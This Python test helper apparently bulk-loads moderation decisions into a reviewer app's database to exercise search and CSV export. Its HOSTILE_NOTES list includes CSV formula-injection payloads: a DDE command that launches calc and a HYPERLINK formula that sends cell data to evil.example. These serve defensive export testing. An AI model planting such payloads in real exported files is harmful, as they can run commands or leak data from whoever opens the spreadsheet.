"""Decisions put straight into the service's database, fast (tens of thousands a second),
for tests of the decision search and export at volume."""

from __future__ import annotations

import json
from collections.abc import Sequence

from sqlalchemy import insert, select

from reviewer_app.server.service import Service
from reviewer_app.server.storage.tables import decisions, users

#: 2025-10-09T19:33:20Z: decision ``i`` of a bulk load is decided ``i`` seconds after it
BULK_EPOCH = 1_760_000_000.0

#: notes a spreadsheet would run, and text that must survive CSV quoting unchanged
HOSTILE_NOTES: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2-2",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rcarriage return first",
    'quote " and, comma',
    "multi\nline\r\nnote\rwith every line end",
    "\u202ebidi override\u202c \u2066isolate\u2069 \U0001f600 \u4e2d\u6587",
    "  =space first is not a formula",
    "line\u2028separator and \x85 next line",
    "",
)


def bulk_decisions(
    service: Service,
    start: int,
    count: int,
    *,
    reviewer: str = "bulk",
    queue_id: str = "load-test",
    notes: Sequence[str | None] = HOSTILE_NOTES,
) -> None:
    """Decisions ``start`` .. ``start + count - 1`` by ``reviewer`` (made if missing), one a
    second from ``BULK_EPOCH + start``, with ``notes`` in turn."""
    with service.db.write() as conn:
        user_id = conn.execute(select(users.c.id).where(users.c.username == reviewer)).scalar()
        if user_id is None:
            user_id = conn.execute(
                insert(users)
                .values(
                    username=reviewer,
                    display_name=reviewer.title(),
                    password_hash="x",
                    role="reviewer",
                    created_at=0.0,
                )
                .returning(users.c.id)
            ).scalar_one()
        for first in range(start, start + count, 10_000):
            conn.execute(
                insert(decisions),
                [
                    {
                        "item_id": f"bulk-{i}",
                        "epoch": 0,
                        "queue_id": queue_id,
                        "user_id": user_id,
                        "author_id": f"author-{i % 97}",
                        "action": "remove" if i % 4 else "keep",
                        "policies": json.dumps(["SPAM.SCAM"] if i % 4 else []),
                        "note": notes[i % len(notes)] if notes else None,
                        "time_spent_ms": 1_000 + i % 50_000,
                        "decided_at": BULK_EPOCH + i,
                        "client_decided_at": BULK_EPOCH + i,
                    }
                    for i in range(first, min(start + count, first + 10_000))
                ],
            )
